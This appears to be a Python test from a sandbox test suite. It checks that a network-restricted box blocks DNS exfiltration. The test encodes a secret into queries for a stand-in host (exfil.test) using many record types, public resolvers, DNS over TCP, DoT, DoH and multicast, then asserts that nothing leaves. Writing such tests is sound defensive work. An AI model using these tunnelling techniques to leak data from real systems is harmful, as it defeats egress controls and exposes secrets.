"""47: data in DNS labels, TXT, NULL, long chains; other resolvers, DNS over TCP, DoT, DoH by address; mDNS and LLMNR."""
from hutchtest import *
from outside import gated, inside, logged


@tiers("vm", "container")
@gated
def nothing_leaves_in_questions(t):
    o = t.outside
    box = t.box(network={"mode": "allow", "allow": ["allowed.test"]})
    r = inside(box, """
        secret = "c2VjcmV0LWRhdGE"
        for t in (1, 28, 16, 10, 15, 5, 33, 65, 255):
            R["type %d" % t] = query(secret + ".exfil.test", t)
        R["sub"] = query(secret + ".allowed.test", 16)
        R["long"] = query(".".join(["x" * 60] * 4))
        for s in ("8.8.8.8", "1.1.1.1", "9.9.9.9", "2001:4860:4860::8888"):
            R["via " + s] = query(secret + ".exfil.test", server=s)
        R["tcp"] = query(secret + ".exfil.test", over="tcp", server="8.8.8.8")
        R["dot"] = tcp((O.web, 853), b"\\x16\\x03\\x01\\x00\\x05hello")
        R["doh"] = http("1.1.1.1", "cloudflare-dns.test", "/dns-query?dns=AAAA")
        R["dohs"] = tls("1.1.1.1", "dns.test")
        for a in (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("ff02::fb", 5353), ("8.8.8.8", 5353), ("255.255.255.255", 137)):
            R["udp %s:%d" % a] = udp(a, b"x", wait=1)
        R["junk"] = query("", raw=b"\\xff" * 40, wait=2)
        R["ok"] = query("allowed.test")
        R["ok txt"] = query("allowed.test", 16)
    """, web=o.ip(), deadline=110)
    for k, v in r.items():
        if k.startswith(("type", "via", "tcp", "sub")):
            contains((3, 4), v[0], f"{k}: no such name (or, for ANY, no such question)")
        elif k.startswith("udp"):
            contains(("EPERM", "TIMEOUT", "ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "EACCES", "EINVAL", "EADDRNOTAVAIL"), v, k)
    true(r["dot"] in ("ECONNRESET", "closed") or r["dot"].startswith("\x15"), "refused, or a TLS alert")
    true(r["doh"][0] in (0, 403) and r["dohs"][0] == 0, f"{r['doh']} {r['dohs']}")
    equal(r["ok"], [0, [o.ip()]])
    equal(r["ok txt"][0], 0)
    equal(set(o.asked), {"allowed.test"}, "no other name left, in whatever form")
    equal(o.hits, [])
    logged(t, box, kind="dns", name="c2vjcmv0lwrhdge.exfil.test", type="TXT", verdict="deny")
    logged(t, box, kind="dns", name="c2vjcmv0lwrhdge.allowed.test", verdict="deny")
    logged(t, box, kind="deny", addr="1.1.1.1", port=443)
